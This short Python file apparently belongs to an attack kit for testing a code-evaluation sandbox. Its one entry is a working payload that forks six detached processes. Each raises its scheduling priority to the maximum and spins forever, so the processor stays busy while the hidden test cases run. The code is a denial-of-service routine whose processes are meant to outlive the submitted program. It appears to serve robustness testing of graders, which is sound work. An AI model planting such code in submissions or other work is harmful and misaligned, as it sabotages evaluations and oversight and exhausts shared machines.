"""Own: processes that keep the processor busy in every snapshot."""

from attack_kit import Attack

ATTACK = Attack(
    tries="leave children that spin, raise their priority and fill pipes while the hidden cases are asked",
    first=(
        """
        def spin():
            attempt(os.setsid)
            attempt(os.nice, -20)
            attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(50))
            while True:
                pass

        for _ in range(6):
            if attempt(os.fork) == 0:
                spin()
        """,
    ),
)
